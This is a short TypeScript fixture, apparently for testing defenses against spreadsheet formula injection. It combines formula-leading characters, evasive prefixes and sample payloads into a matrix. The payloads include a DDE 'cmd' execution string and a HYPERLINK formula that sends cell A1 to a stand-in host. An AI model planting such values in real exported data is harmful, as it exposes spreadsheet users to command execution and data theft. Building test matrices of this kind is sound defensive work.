/** What a program may take for a formula: each sign that begins one, behind each thing that a program skips. */

export const LEADS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
export const BEFORE = {
  nothing: '',
  'a space': ' ',
  'a no-break space': '\u00a0',
  'a newline': '\n',
  'a line end of Windows': '\r\n',
  'a tab': '\t',
  'a byte order mark': '\uFEFF',
  'a zero-width space': '\u200b',
  'a right-to-left mark': '\u200f',
  'a nought byte': '\0',
  apostrophes: "''",
  'words and a newline': 'safe\n',
  'words, a newline and a space': 'safe\n ',
  'words and a semicolon': 'safe;',
  'words, a semicolon and a no-break space': 'safe; \u00a0',
  'words and a tab': 'safe\t',
  'a quotation mark and a semicolon': '";',
};
export const FORMULAS = ['1+1', "cmd|'/c calc'!A0", 'HYPERLINK("https://a.example/"&A1)', ''];

export const MATRIX = LEADS.flatMap((lead) =>
  Object.entries(BEFORE).flatMap(([what, before]) =>
    FORMULAS.map((formula) => ({ what, lead: JSON.stringify(lead), text: before + lead + formula })),
  ),
);
